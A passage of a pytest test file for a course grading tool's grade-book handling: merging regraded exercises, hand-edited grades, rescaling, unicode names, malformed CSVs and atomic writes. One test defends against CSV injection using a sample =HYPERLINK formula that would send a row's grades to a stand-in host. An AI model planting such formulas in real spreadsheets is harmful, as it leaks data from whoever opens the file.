    assert [e.name for e in earlier.exercises] == ["ex01", "ex03"] and list(earlier.grades) == ["ann", "bob", "zoe"]
    assert earlier.grades["bob"]["ex03"] == gradebook.Grade(*kept[:1], 7, kept[1])     # the points: grades.csv's


def test_a_grade_changed_by_hand_in_grades_csv_alone_gets_a_reason_that_says_so_and_keeps_saying_it(tmp_path):
    """ann's ex01 raised from 0 to 5 in grades.csv alone: ONLY=ex03 kept the 5 and wrote it into grades_reasons.csv
    beside the grader's "not done yet" -- 5 points for a reason that gives none, and the next run could no longer
    tell the 5 from a grader's."""
    (tmp_path / "grades.csv").write_text(EARLIER_GRADES.replace("ann,0,10,10", "ann,5,10,15"), encoding="utf-8")
    (tmp_path / "grades_reasons.csv").write_text(EARLIER_REASONS, encoding="utf-8")
    by_hand = gradebook.Grade("ex01_perceptron_activations.py", 5,
                              "given by hand in grades.csv (the grader gave 0: not done yet: fill in the TODO in "
                              "Perceptron1D.run)")
    earlier = gradebook.read_earlier(tmp_path)
    assert earlier.grades["ann"]["ex01"] == by_hand
    assert earlier.grades["bob"]["ex03"].reason == "partial: 7 of 10, see the mail of 3 May"   # both files edited
    gradebook.write(tmp_path, earlier.exercises, earlier.grades)               # what ONLY=ex03 writes back
    assert gradebook.read_earlier(tmp_path).grades["ann"]["ex01"] == by_hand   # still by hand, said once


def test_a_grade_changed_by_hand_twice_names_the_graders_points_once_not_the_first_hand_edit(tmp_path):
    """ann's ex01 raised by hand from 0 to 5, written back by ONLY=ex03, then raised again to 6: its reason still
    says what the grader gave, once, not "given by hand (the grader gave 5: given by hand (the grader gave 0 ..."."""
    (tmp_path / "grades.csv").write_text(EARLIER_GRADES.replace("ann,0,10,10", "ann,5,10,15"), encoding="utf-8")
    (tmp_path / "grades_reasons.csv").write_text(EARLIER_REASONS, encoding="utf-8")
    earlier = gradebook.read_earlier(tmp_path)
    gradebook.write(tmp_path, earlier.exercises, earlier.grades)               # what ONLY=ex03 writes back
    text = (tmp_path / "grades.csv").read_text(encoding="utf-8")
    assert text.count("\nann,5,10,15\n") == 1, text
    (tmp_path / "grades.csv").write_text(text.replace("\nann,5,10,15\n", "\nann,6,10,16\n"), encoding="utf-8")
    assert gradebook.read_earlier(tmp_path).grades["ann"]["ex01"] == gradebook.Grade(
        "ex01_perceptron_activations.py", 6,
        "given by hand in grades.csv (the grader gave 0: not done yet: fill in the TODO in Perceptron1D.run)")


def test_a_full_mark_given_by_hand_is_what_a_class_graded_afresh_would_lose(tmp_path):
    """bob's ex01 raised by hand from the grader's 0 to 10 of 10: full marks, but not the grader's, so a fresh grading
    that gives 0 again would lose it (its reason says it was given by hand, whatever its points)."""
    (tmp_path / "grades.csv").write_text("learner,ex01,total\nbob,10,10\n", encoding="utf-8")
    (tmp_path / "grades_reasons.csv").write_text("learner,exercise,file,points,reason\nbob,ex01,,0,missing\n",
                                                 encoding="utf-8")
    earlier = gradebook.read_earlier(tmp_path)
    assert gradebook.lost(earlier, {"bob": {"ex01": gradebook.Grade("", 0, "missing")}}) == (
        "1 grade given by hand (bob ex01 10)")


def test_a_learner_name_starting_or_ending_with_a_space_is_named_in_quotes_as_grades_csv_keeps_it():
    # " ann" named bare reads as "ann" in a line that lists learners: the space that tells the two folders apart is lost
    assert [gradebook.named(name) for name in (" ann", "ann ", "ann", 'a "b", c')] == [
        '" ann"', '"ann "', "ann", '"a ""b"", c"']


def test_only_names_each_hand_given_grade_its_regrading_replaced(tmp_path):
    """ann's ex01 cut from 10 to 8 by hand (a late penalty), bob's ex03 a hand-given 7: bob resubmits and ONLY=ex01,ex03
    regrades the class. The grader's 10s replaced the 8 and the 7 and no line said so: the instructor's edits were
    gone without a word. Grades the regrading gave again (zoe's 10s) are no hand edit and are not named."""
    (tmp_path / "grades.csv").write_text(EARLIER_GRADES.replace("ann,0,10,10", "ann,8,10,18"), encoding="utf-8")
    (tmp_path / "grades_reasons.csv").write_text(EARLIER_REASONS.replace("ann,ex01,ex01_perceptron_activations.py,0,",
                                                                         "ann,ex01,ex01_perceptron_activations.py,10,"),
                                                 encoding="utf-8")
    passed = gradebook.Grade("ex01_perceptron_activations.py", 10, "passed")
    regraded = {learner: {"ex01": passed, "ex03": passed} for learner in ("ann", "bob", "zoe")}
    _, merged, line = gradebook.merge(gradebook.read_earlier(tmp_path), [find("ex01"), find("ex03")], regraded)
    assert line == ("replaced the earlier grades.csv: ONLY=ex01,ex03 regraded all it held; the regrading replaced 2 "
                    "grades given by hand there: ann ex01 8 (now 10), bob ex03 7 (now 10) (give them again if they "
                    "still stand)")
    assert merged == regraded


def test_only_names_each_total_changed_by_hand_as_it_sums_it_again(tmp_path):
    """A bonus typed into ann's total (10 -> 15): the total is not kept, it is the sum of the columns, and ONLY=ex03
    wrote 10 back without a word. A total a spreadsheet saved as 20.0 is the same total and is not named."""
    (tmp_path / "grades.csv").write_text(EARLIER_GRADES.replace("ann,0,10,10", "ann,0,10,15")
                                         .replace("zoe,10,10,20", "zoe,10,10,20.0"), encoding="utf-8")
    regraded = {"ann": {"ex03": gradebook.Grade("ex03_keras_basics.py", 10, "passed")}}
    _, merged, line = gradebook.merge(gradebook.read_earlier(tmp_path), [find("ex03")], regraded)
    assert line == ("kept ex01 and the rows of bob, zoe (no folder now) from the earlier grades.csv (ONLY=ex03 "
                    "regraded ex03); a total is the sum of the exercises' columns, so these totals it gave were "
                    "summed again: ann 15 (now 10)")
    assert sum(grade.points for grade in merged["ann"].values()) == 10


def test_a_grade_book_a_spreadsheet_saved_with_a_byte_order_mark_is_read_as_it_was(tmp_path):
    """A spreadsheet's "CSV UTF-8" starts the file with a byte-order mark: read as UTF-8 alone, the first column
    would be "\ufefflearner", and ONLY= would refuse a grade book the instructor had only opened and saved."""
    bom = "\ufeff".encode()
    (tmp_path / "grades.csv").write_bytes(bom + EARLIER_GRADES.encode())
    (tmp_path / "grades_reasons.csv").write_bytes(bom + EARLIER_REASONS.encode())
    earlier = gradebook.read_earlier(tmp_path)
    assert [e.name for e in earlier.exercises] == ["ex01", "ex03"] and list(earlier.grades) == ["ann", "bob", "zoe"]
    assert earlier.grades["bob"]["ex01"] == gradebook.Grade("ex01_perceptron_activations.py", 10, EX01_PASSED)


def test_a_learner_whose_folder_name_changed_unicode_form_keeps_their_earlier_row(tmp_path):
    """Zoë's folder unzipped from a Mac's zip spells ë as e + a combining accent (NFD); the earlier grades.csv, as
    one character (NFC). She is one learner: her kept ex01 joins her regraded ex03, in one row."""
    composed, decomposed = "Zo\u00eb", "Zoe\u0308"
    (tmp_path / "grades.csv").write_text(f"learner,ex01,ex03,total\n{composed},10,0,10\n", encoding="utf-8")
    regraded = {decomposed: {"ex03": gradebook.Grade("ex03_keras_basics.py", 10, "passed")}}
    columns, merged, line = gradebook.merge(gradebook.read_earlier(tmp_path), [find("ex03")], regraded)
    assert list(merged) == [decomposed] and line.startswith("kept ex01 from the earlier grades.csv")
    assert [merged[decomposed][e.name].points for e in columns] == [10, 10]
    (tmp_path / "grades.csv").write_text(f"learner,ex01,total\n{composed},10,10\n{decomposed},0,0\n",
                                         encoding="utf-8")
    with pytest.raises(ValueError, match=f"two rows for {decomposed}: lines 2 and 3"):
        gradebook.read_earlier(tmp_path)


FORMULA_NAMES = ['=HYPERLINK("http://example.invalid/?"&B2,"x")', "+1", "-rf", "@sum", "'=quoted already", "ann"]


def test_a_learner_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_read_back_as_it_was(tmp_path):
    """A folder named =HYPERLINK(...) (a learner's name on the LMS, chosen by the learner) was written into
    grades.csv as it is: a spreadsheet opening the file runs it as a formula (OWASP's CSV injection: it can send the
    row's grades away), shows "+1" as 1 and "-rf" as #NAME?. Each cell that starts with =, +, - or @ is written
    with a ' before it, which spreadsheets read as "this is text"; a name that already starts with ' and then one
    of those gets one more, and the next ONLY= run reads every name back as the folder spells it."""
    grades = {name: {"ex01": gradebook.Grade("ex01_perceptron_activations.py", 10, "-1 is not a reason")}
              for name in FORMULA_NAMES}
    gradebook.write(tmp_path, [find("ex01")], grades)
    written = [row[0] for row in read_csv(tmp_path / "grades.csv")[1:]]
    assert written == ['\'=HYPERLINK("http://example.invalid/?"&B2,"x")', "'+1", "'-rf", "'@sum",
                       "''=quoted already", "ann"]
    reasons = read_csv(tmp_path / "grades_reasons.csv")[1:]
    assert [row[0] for row in reasons] == written and {row[4] for row in reasons} == {"'-1 is not a reason"}
    earlier = gradebook.read_earlier(tmp_path)
    assert list(earlier.grades) == FORMULA_NAMES
    assert {grade["ex01"].reason for grade in earlier.grades.values()} == {"-1 is not a reason"}
    # saved again by a spreadsheet that took the ' as its mark for text and left it out: the same names
    (tmp_path / "grades.csv").write_text("learner,ex01,total\n+1,10,10\n-rf,10,10\n", encoding="utf-8")
    (tmp_path / "grades_reasons.csv").unlink()
    assert list(gradebook.read_earlier(tmp_path).grades) == ["+1", "-rf"]


def test_a_learner_whose_name_holds_a_comma_is_named_in_quotes_where_a_line_lists_learners(tmp_path):
    """Moodle's and a spreadsheet's class lists write "Smith, Ann": the lines that list learners with commas said
    "the rows of bob, Smith, Ann (no folder now)", three learners or two. Such a name is quoted as grades.csv quotes
    it; a control character in a name is escaped there as in the table."""
    (tmp_path / "grades.csv").write_text('learner,ex01,ex03,total\nbob,10,0,10\n"Smith, Ann",10,0,15\n'
                                         'zo\u202ee,10,0,10\n', encoding="utf-8")
    regraded = {"cy": {"ex03": gradebook.Grade("ex03_keras_basics.py", 10, "passed")}}
    earlier = gradebook.read_earlier(tmp_path)
    _, _, line = gradebook.merge(earlier, [find("ex03")], regraded)
    assert 'the rows of bob, "Smith, Ann", zo\\u202ee (no folder now)' in line, line
    assert 'summed again: "Smith, Ann" 15 (now 10)' in line, line
    assert gradebook.lost(earlier, regraded) == 'rows for bob, "Smith, Ann", zo\\u202ee, whose folders are gone'
    # the reasons of a learner's columns ONLY= could not fill name them too: printed under "Why the zeros"
    columns, merged, _ = gradebook.merge(earlier, [find("ex03")], {"cy\u202e": regraded["cy"]})
    assert merged["cy\u202e"]["ex01"].reason == ("not graded: the earlier grades.csv has no row for cy\\u202e, and "
                                                 "ONLY=ex03 left ex01 out")
    starved = gradebook.Grade("x.py", 0, "did not finish ...", 40.0)
    warning = grade_class.starved_warning({"Smith, Ann": {"ex01": starved}, "bob": {"ex01": starved}}, [find("ex01")],
                                          120)
    assert 'these zeros: "Smith, Ann" ex01 (40 s of CPU), bob ex01 (40 s of CPU) stopped' in warning, warning


def test_the_only_merge_lists_learners_as_a_class_list_reads_whatever_the_case(tmp_path):
    """ONLY= merges today's rows with the earlier grades.csv's: alphabetically whatever the case (alice, bob, Carol,
    Dan), as the full grading does, not Python's order with every capital first (Carol, Dan, alice, bob)."""
    (tmp_path / "grades.csv").write_text("learner,ex01,ex03,total\nDan,10,0,10\nbob,10,0,10\n", encoding="utf-8")
    regraded = {learner: {"ex03": gradebook.Grade("ex03_keras_basics.py", 10, "passed")} for learner in ("Carol",
                                                                                                           "alice")}
    _, merged, line = gradebook.merge(gradebook.read_earlier(tmp_path), [find("ex03")], regraded)
    assert list(merged) == ["alice", "bob", "Carol", "Dan"]
    assert "the rows of bob, Dan (no folder now)" in line, line


def test_grades_reasons_csv_without_grades_csv_is_refused_in_one_line_not_replaced(tmp_path):
    """grades.csv deleted (or moved to a spreadsheet): ONLY=ex03 kept nothing, and wrote grades_reasons.csv again
    with ex03's rows alone -- the other exercises' points and reasons gone, and no line said so."""
    (tmp_path / "grades_reasons.csv").write_text(EARLIER_REASONS, encoding="utf-8")
    with pytest.raises(ValueError, match=r"grades_reasons.csv is here without grades.csv: ONLY= would write it "
                                         r"again with the regraded exercises' rows alone; put grades.csv back"):
        gradebook.read_earlier(tmp_path)
    (tmp_path / "grades_reasons.csv").unlink()
    assert gradebook.read_earlier(tmp_path) is None                        # no grade book at all: nothing to keep


COMMA_DELIMITED = "a spreadsheet's \"CSV UTF-8 (comma delimited)\""


@pytest.mark.parametrize("grades, reasons, problem", [
    (b"learner,ex01,total\nb\xe9a,10,10\n", None, "not UTF-8 text: byte 0xe9 at position 20"),
    (b"name,ex01,total\nann,10,10\n", None, "its first line is 'name,ex01,total', not learner, exercise ids, total"),
    (b"learner,total\nann,0\n", None, "its first line is 'learner,total', not learner, exercise ids, total"),
    (b"learner,ex01,ex9,total\nann,10,0,10\n", None, "its column 'ex9' is not an exercise: they are ex01, ex02, ex03, "
                                                       "ex04, ex05, ex06, ex07"),
    (b"learner,ex01,ex01,total\n", None, "two ex01 columns"),
    (b"learner,ex01,total\nann,ten,10\n", None, "line 2 gives ann 'ten' for ex01, not a whole number from 0 to 10"),
    (b"learner,ex01,total\nann,11,11\n", None, "line 2 gives ann '11' for ex01, not a whole number from 0 to 10"),
    (b"learner,ex01,total\nann,7.5,7.5\n", None, "line 2 gives ann '7.5' for ex01, not a whole number from 0 to 10"),
    (b"learner,ex01,total\nann,-1,-1\n", None, "line 2 gives ann '-1' for ex01, not a whole number from 0 to 10"),
    (b"learner,ex01 (/5),total\nann,10,10\n", None, "line 2 gives ann '10' for ex01, not a whole number from 0 to 5"),
    (b"learner,ex01 (/0),total\nann,0,0\n", None, "its column 'ex01 (/0)' says ex01 was out of '0', not a whole "
                                                    "number above 0"),
    (b"learner,ex01 (/ten),total\nann,0,0\n", None, "its column 'ex01 (/ten)' says ex01 was out of 'ten', not a "
                                                      "whole number above 0"),
    (b"learner,ex01,total (/x)\nann,0,0\n", None, "its column 'total (/x)' says total was out of 'x', not a whole "
                                                  "number above 0"),
    (b"learner,ex01,total\nann,10,10\nann,0,0\n", None, "two rows for ann: lines 2 and 3"),
    (b"learner,ex01,total\nann,10\n", None, "line 2 has 2 values, the first line 3"),
    (b"learner,ex01,total\nann,10,10\n ,0,0\n", None, "line 3 names no learner"),
    (b"learner,ex01,total\nann," + b"9" * 200_000 + b",10\n", None, "not CSV: field larger than field limit (131072)"),
    (b"", None, "it is empty"),
    (b"learner;ex01;total\r\nann;10;10\r\n", None, "its values are separated by ';', not commas: save it again "
                                                     f"as CSV with commas ({COMMA_DELIMITED})"),
    (b"learner\tex01\ttotal\nann\t10\t10\n", None, "its values are separated by tabs, not commas: save it again as "
                                                   f"CSV with commas ({COMMA_DELIMITED})"),
    (b"learner,ex01,total\nann,10,10\n", b"learner,points\n", "its first line is 'learner,points', not "
                                                                "'learner,exercise,file,points,reason'"),
], ids=["not-utf8", "header", "no-exercise-column", "unknown-exercise", "twice-a-column", "not-a-number",
        "above-the-points", "fraction", "negative", "above-its-header", "out-of-0", "out-of-ten", "total-out-of-x",
        "twice-a-learner", "short-row", "no-learner", "field-too-long", "empty", "semicolons", "tabs",
        "reasons-header"])
def test_an_earlier_grade_book_that_cannot_be_understood_is_refused_in_one_line_before_grading(
        grades, reasons, problem, tmp_path, capsys):
    folder = write_class(tmp_path / "class", {"ann": {"notes.txt": ""}})
    (folder / "grades.csv").write_bytes(grades)
    if reasons is not None:
        (folder / "grades_reasons.csv").write_bytes(reasons)
    before = {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}
    assert grade_class.main([str(folder), "--only", "ex03"]) == 2
    out, err = capsys.readouterr()
    wrong = folder / ("grades.csv" if reasons is None else "grades_reasons.csv")
    assert (out, err) == ("", f"error: {wrong}: {problem}; ONLY= would keep the other exercises' grades from it: move "
                              "it away, or grade all the exercises (no ONLY=)\n")
    assert {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()} == before   # untouched


@pytest.mark.parametrize("damage", ["deleted", "changed"])
def test_a_damaged_data_set_is_one_line_before_grading_not_a_class_of_zeros(damage, tmp_path, monkeypatch, capsys):
    """digits.csv deleted, or its line ends changed (core.autocrlf's doing): make grade says so in one line and grades
    nothing, and its advice, typed in the clone that holds the file, brings back the shipped bytes."""
    from data import checksums

    shipped = tmp_path / "data"
    shipped.mkdir()
    for filename in checksums.SHA256:
        (shipped / filename).write_bytes((checksums.DATA_DIR / filename).read_bytes())
    committed_in_a_new_repository(tmp_path, "data/digits.csv")            # where the advice is typed: a clone
    if damage == "deleted":
        (shipped / "digits.csv").unlink()
    else:
        crlf = (checksums.DATA_DIR / "digits.csv").read_bytes().replace(b"\n", b"\r\n")     # core.autocrlf's doing
        (shipped / "digits.csv").write_bytes(crlf)
    monkeypatch.setattr(checksums, "DATA_DIR", shipped)
    folder = write_class(tmp_path / "class", {"ann": {"notes.txt": ""}})
    assert grade_class.main([str(folder), "--only", "ex01"]) == 1
    out, err = capsys.readouterr()
    what = "is missing" if damage == "deleted" else "does not match the shipped digits.csv"
    assert out == "" and err.startswith(f"error: data file {shipped / 'digits.csv'} {what}"), err
    assert err.count("\n") == 1
    assert err.endswith("restore it with `git checkout HEAD -- data/digits.csv` (nothing was graded)\n"), err
    assert sorted(path.name for path in folder.iterdir()) == ["ann"]                  # no grade book written
    restore_as_advised(tmp_path, err, shipped / "digits.csv", (REPO / "data" / "digits.csv").read_bytes())


def test_a_grader_file_missing_is_one_line_before_grading_not_every_learners_fault(tmp_path, monkeypatch, capsys):
    """graders/ex03.py deleted (the graders' package looks in a folder without it): GitHub Classroom's --learner
    and make grade say so in one line; Classroom's step said "the grader could not check your code: ... check what
    your functions return", and make grade, preloading the graders, ended in a traceback. The advice, typed in a clone
    where `git rm` took the file, brings it back."""
    from keras_models.course.exercises import graders

    monkeypatch.setattr(graders, "__path__", [str(tmp_path / "graders")])
    monkeypatch.delitem(sys.modules, f"{graders.__name__}.ex03", raising=False)
    folder = write_class(tmp_path / "class", {name: {"ex03_keras_basics.py": "x = 1\n"} for name in ("ann", "bo")})
    path = "keras_models/course/exercises/graders/ex03.py"
    line = (f"error: the grader {path} is missing, a file of the course's, not the code graded: restore it with "
            f"`git checkout HEAD -- {path}` (nothing was graded)\n")
    for argv in (["--learner", str(folder / "ann"), "--only", "ex03"], [str(folder), "--only", "ex03"]):
        assert grade_class.main(argv) == 1
        assert capsys.readouterr() == ("", line)
    assert sorted(path.name for path in folder.iterdir()) == ["ann", "bo"]                 # no grade book written
    advice_restores_after_git_rm(tmp_path / "clone", line, path)                         # the advice, as given


def test_grades_csv_is_written_last_so_a_failed_write_of_the_reasons_leaves_no_grade_book_to_merge(tmp_path,
                                                                                                     monkeypatch):
    """gradebook.write: grades.csv, whose presence makes the next ONLY= run keep its columns, comes after
    grades_reasons.csv. A disk full as the reasons are written leaves no grades.csv whose kept grades would lose
    their reasons without a word."""
    real_write_rows = gradebook._write_rows

    def full_disk_for_the_reasons(path, rows):            # path: the temporary file, named after its file
        if path.name.startswith(gradebook.REASONS + "."):
            raise OSError(28, "No space left on device", str(path))
        real_write_rows(path, rows)

    monkeypatch.setattr(gradebook, "_write_rows", full_disk_for_the_reasons)
    ex01 = find("ex01")
    with pytest.raises(OSError):
        gradebook.write(tmp_path, [ex01], {"ann": {"ex01": gradebook.Grade(f"{ex01.stem}.py", 10, EX01_PASSED)}})
    assert list(tmp_path.iterdir()) == []


def write_ann_over_the_earlier_book(folder: Path) -> None:
    """gradebook.write of ann's passed ex01 into `folder`, which first gets the earlier book (EARLIER_GRADES and
    EARLIER_REASONS, written with pathlib, which none of the tests' stand-ins for gradebook's writing touches)."""
    (folder / gradebook.GRADES).write_text(EARLIER_GRADES, encoding="utf-8")
    (folder / gradebook.REASONS).write_text(EARLIER_REASONS, encoding="utf-8")
    ex01 = find("ex01")
    gradebook.write(folder, [ex01], {"ann": {"ex01": gradebook.Grade(f"{ex01.stem}.py", 10, EX01_PASSED)}})


def assert_the_earlier_book_is_whole(folder: Path) -> None:
    assert (folder / gradebook.GRADES).read_text(encoding="utf-8") == EARLIER_GRADES
    assert (folder / gradebook.REASONS).read_text(encoding="utf-8") == EARLIER_REASONS
    assert sorted(path.name for path in folder.iterdir()) == [gradebook.GRADES, gradebook.REASONS]   # no temporary


@pytest.mark.parametrize("full", [gradebook.GRADES, gradebook.REASONS])
def test_a_full_disk_as_either_file_of_the_grade_book_is_written_leaves_both_earlier_files_whole(full, tmp_path,
                                                                                                 monkeypatch):
    """gradebook.write replaced grades_reasons.csv before it wrote grades.csv: a disk full as grades.csv was
    written left the new reasons beside the old grades, and "the grades cannot be written" did not say so. Both
    temporary files are written before either is moved."""
    real_open = open

    def full_disk_for(file, *args, **kwargs):
        if Path(file).name.startswith(full + "."):           # its temporary file, named after it
            raise OSError(28, "No space left on device", str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(gradebook, "open", full_disk_for, raising=False)
    with pytest.raises(OSError, match="No space left on device"):
        write_ann_over_the_earlier_book(tmp_path)
    assert_the_earlier_book_is_whole(tmp_path)


def test_grades_csv_is_moved_last_so_a_failed_move_of_the_reasons_leaves_the_earlier_grade_book_whole(tmp_path,
                                                                                                     monkeypatch):
    """Both files written, grades_reasons.csv is moved over its file first and grades.csv last: when the move of
    the reasons fails, grades.csv is not yet replaced, and its kept grades keep their reasons."""
    real_replace = os.replace

    def reasons_not_moved(source, target):
        if Path(target).name == gradebook.REASONS:
            raise OSError(errno.EIO, "Input/output error")
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", reasons_not_moved)
    with pytest.raises(OSError, match="Input/output error"):
        write_ann_over_the_earlier_book(tmp_path)
    assert_the_earlier_book_is_whole(tmp_path)


def test_the_grade_book_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    """Each file goes into a temporary file beside it, then over it: stopped halfway (here a Ctrl-C after the
    first row), the earlier file is as it was and nothing else is left."""
    real_writer = csv.writer

    class StoppedHalfway:
        def __init__(self, file, **options):
            self.writer = real_writer(file, **options)

        def writerows(self, rows):
            self.writer.writerow(rows[0])
            raise KeyboardInterrupt

    monkeypatch.setattr(gradebook.csv, "writer", StoppedHalfway)
    with pytest.raises(KeyboardInterrupt):
        write_ann_over_the_earlier_book(tmp_path)
    assert_the_earlier_book_is_whole(tmp_path)


def test_make_release_where_git_cannot_list_the_untracked_files_is_one_line_and_writes_nothing(tmp_path, capsys,
                                                                                              monkeypatch):
    """The untracked files were listed after the copy, in the try around the summary's prints: git's failure there
    was a ValueError traceback, the copy already written."""
    def untracked_files():
        raise ValueError("make release copies the files git tracks, and git cannot be run here (No such file or "
                         "directory): install git")

    copied = []
    monkeypatch.setattr(release, "release", lambda dest, with_solutions, changes, skeletons: copied.append(dest))
    monkeypatch.setattr(release, "uncommitted_files", list)
    monkeypatch.setattr(release, "untracked_files", untracked_files)
    assert release.main([str(tmp_path / "out")]) == 2
    assert (capsys.readouterr().err, copied) == ("error: make release copies the files git tracks, and git cannot be "
                                                 "run here (No such file or directory): install git\n", [])


# --- what each column of grades.csv was out of ----------------------------------------------------------------
# grades.csv's header says what each exercise was out of ("ex03 (/10)"): the header row stays on top when a
# spreadsheet sorts the rows, and an LMS import reads it as the column's name. When the points declaration
# (graders.EXERCISES) changes between two gradings, the kept grades are rescaled to today's points.

BOOK_OUT_OF_10 = ("learner,ex01 (/10),ex03 (/10),total (/20)\nann,0,10,10\nbob,10,7,17\nzoe,10,0,10\n")


def exercises_now(monkeypatch, **points: int) -> dict[str, object]:
    """graders.EXERCISES as the grade book sees it, with `points` (ex03=12) declared since the earlier grading."""
    now = tuple(dataclasses.replace(e, points=points.get(e.name, e.points)) for e in EXERCISES)
    monkeypatch.setattr(gradebook, "EXERCISES", now)
    return {e.name: e for e in now}


def test_grades_csv_says_in_its_header_what_each_column_and_the_total_were_out_of(tmp_path):
    ex01, ex03 = find("ex01"), find("ex03")
    passed = {"ex01": gradebook.Grade("a.py", 10, "passed"), "ex03": gradebook.Grade("b.py", 0, "failed")}
    gradebook.write(tmp_path, [ex01, ex03], {"ann": passed})
    assert read_csv(tmp_path / "grades.csv") == [["learner", "ex01 (/10)", "ex03 (/10)", "total (/20)"],
                                                 ["ann", "10", "0", "10"]]
    earlier = gradebook.read_earlier(tmp_path)
    assert earlier.exercises == [ex01, ex03] and earlier.grades == {"ann": passed} and earlier.totals == {}


@pytest.mark.parametrize("text", [
    BOOK_OUT_OF_10,
    BOOK_OUT_OF_10.replace("\n", "\r\n"),                                             # a spreadsheet on Windows
    "\ufeff" + BOOK_OUT_OF_10.replace("ann,0,10,10\nbob,10,7,17\nzoe,10,0,10", "zoe,10,0,10\nbob,10,7,17\nann,0,10,10"),
    BOOK_OUT_OF_10.replace("(/10),ex03 (/10),total (/20)", "(/10) , ex03(/ 10),total"),   # spaced, no total's
], ids=["as-written", "crlf", "bom-and-sorted", "spaced"])
def test_a_grade_book_whose_header_says_what_each_column_was_out_of_is_read_as_it_was(text, tmp_path):
    (tmp_path / "grades.csv").write_text(text, encoding="utf-8", newline="")
    earlier = gradebook.read_earlier(tmp_path)
    assert [e.name for e in earlier.exercises] == ["ex01", "ex03"]
    assert {learner: [g.points for g in mine.values()] for learner, mine in earlier.grades.items()} == {
        "ann": [0, 10], "bob": [10, 7], "zoe": [10, 0]}


def test_only_rescales_a_kept_column_whose_points_were_raised_and_names_each_grade_given_by_hand(tmp_path,
                                                                                                 monkeypatch):
    """ex03 graded out of 10, then declared out of 12: ONLY=ex01 kept ann's pass at 10 where a pass is now 12, and
    her total two points short. A pass is a pass (12), a 0 a 0; bob's 7 given by hand is 7/10 of 12, rounded, and
    named, as only the instructor knows whether it was a share or points off."""
    (tmp_path / "grades.csv").write_text(BOOK_OUT_OF_10, encoding="utf-8")
    now = exercises_now(monkeypatch, ex03=12)
    regraded = {learner: {"ex01": gradebook.Grade("a.py", 10, "passed")} for learner in ("ann", "bob", "zoe")}
    columns, merged, line = gradebook.merge(gradebook.read_earlier(tmp_path), [now["ex01"]], regraded)
    assert {learner: [mine[e.name].points for e in columns] for learner, mine in merged.items()} == {
        "ann": [10, 12], "bob": [10, 8], "zoe": [10, 0]}
    assert line == ("kept ex03 from the earlier grades.csv (ONLY=ex01 regraded ex01); ex03 was out of 10 there and is "
                    "out of 12 now: its kept grades were rescaled (10 is 12 now, 0 stays 0), as were these given "
                    "by hand: bob 7 -> 8 (8.4, rounded) (give them again if they should be otherwise)")
    gradebook.write(tmp_path, columns, merged)
    assert read_csv(tmp_path / "grades.csv") == [["learner", "ex01 (/10)", "ex03 (/12)", "total (/22)"],
                                                 ["ann", "10", "12", "22"], ["bob", "10", "8", "18"],
                                                 ["zoe", "10", "0", "10"]]


def test_a_kept_grade_given_by_hand_names_what_the_grader_gave_out_of_the_points_then(tmp_path, monkeypatch):
    """bob's ex03, a pass (10 of 10) in grades_reasons.csv, 7 by hand in grades.csv, and ex03 out of 12 now: his
    reason said "the grader gave 10" beside a grade rescaled to 8 of 12, two scales in one row without saying so."""
    (tmp_path / "grades.csv").write_text(BOOK_OUT_OF_10, encoding="utf-8")
    (tmp_path / "grades_reasons.csv").write_text("learner,exercise,file,points,reason\nbob,ex03,b.py,10,passed\n",
                                                 encoding="utf-8")
    now = exercises_now(monkeypatch, ex03=12)
    regraded = {"bob": {"ex01": gradebook.Grade("a.py", 10, "passed")}}
    _, merged, _ = gradebook.merge(gradebook.read_earlier(tmp_path), [now["ex01"]], regraded)
    assert merged["bob"]["ex03"] == gradebook.Grade("b.py", 8, "given by hand in grades.csv (the grader gave 10 of "
                                                               "10: passed)")


def test_a_lowered_maximum_is_rescaled_not_refused_as_the_files_fault(tmp_path, monkeypatch):
    """ex03 cut from 10 to 5 points: the earlier 10 was refused ("not a whole number from 0 to 5"), the grade book
    blamed for the declaration's change. Now it is a pass, 5; bob's 7 of 10 is 3.5, rounded half up."""
    (tmp_path / "grades.csv").write_text(BOOK_OUT_OF_10, encoding="utf-8")
    now = exercises_now(monkeypatch, ex03=5)
    regraded = {"ann": {"ex01": gradebook.Grade("a.py", 10, "passed")}}
    _, merged, line = gradebook.merge(gradebook.read_earlier(tmp_path), [now["ex01"]], regraded)
    assert [merged[learner]["ex03"].points for learner in ("ann", "bob", "zoe")] == [5, 4, 0]
    assert "ex03 was out of 10 there and is out of 5 now" in line and "bob 7 -> 4 (3.5, rounded)" in line, line


def test_a_kept_grade_rescaled_to_a_half_is_rounded_up_not_to_the_even_number(tmp_path, monkeypatch):
    """ex03 cut from 10 to 5 points: bob's 5 of 10 given by hand is 2.5 of 5, which is 3 rounded half up (as the
    module says, and as a teacher rounds a mark); Python's round() gives 2, the even number. ann and zoe, not
    regraded, keep their rows: ann's 0 and 10 of 10 are 0 and 5, zoe's 10 and 0 stay."""
    (tmp_path / "grades.csv").write_text(BOOK_OUT_OF_10.replace("bob,10,7,17", "bob,10,5,15"), encoding="utf-8")
    now = exercises_now(monkeypatch, ex03=5)
    regraded = {"bob": {"ex01": gradebook.Grade("a.py", 10, "passed")}}
    columns, merged, line = gradebook.merge(gradebook.read_earlier(tmp_path), [now["ex01"]], regraded)
    assert "bob 5 -> 3 (2.5, rounded)" in line, line
    gradebook.write(tmp_path, columns, merged)
    assert (tmp_path / "grades.csv").read_bytes() == (b"learner,ex01 (/10),ex03 (/5),total (/15)\n"
                                                      b"ann,0,5,5\nbob,10,3,13\nzoe,10,0,10\n")


def test_a_grade_book_without_what_its_columns_were_out_of_is_read_against_todays_points(tmp_path, monkeypatch):
    """A grades.csv written before its header said (learner,ex01,ex03,total) is read as it always was: each value
    out of today's points, and one above them refused, as nothing says the column was once worth more."""
    (tmp_path / "grades.csv").write_text(EARLIER_GRADES, encoding="utf-8")
    exercises_now(monkeypatch, ex03=12)
    assert gradebook.read_earlier(tmp_path).grades["ann"]["ex03"].points == 10
    exercises_now(monkeypatch, ex03=5)
    with pytest.raises(ValueError, match="line 2 gives ann '10' for ex03, not a whole number from 0 to 5"):
        gradebook.read_earlier(tmp_path)


def test_a_regrading_names_a_replaced_grade_given_by_hand_as_grades_csv_wrote_it(tmp_path, monkeypatch):
    """ONLY=ex03 regrades a column whose points changed: bob's hand-given 7 is named as the file held it, 7 of 10,
    not as the 8 it would be out of 12."""
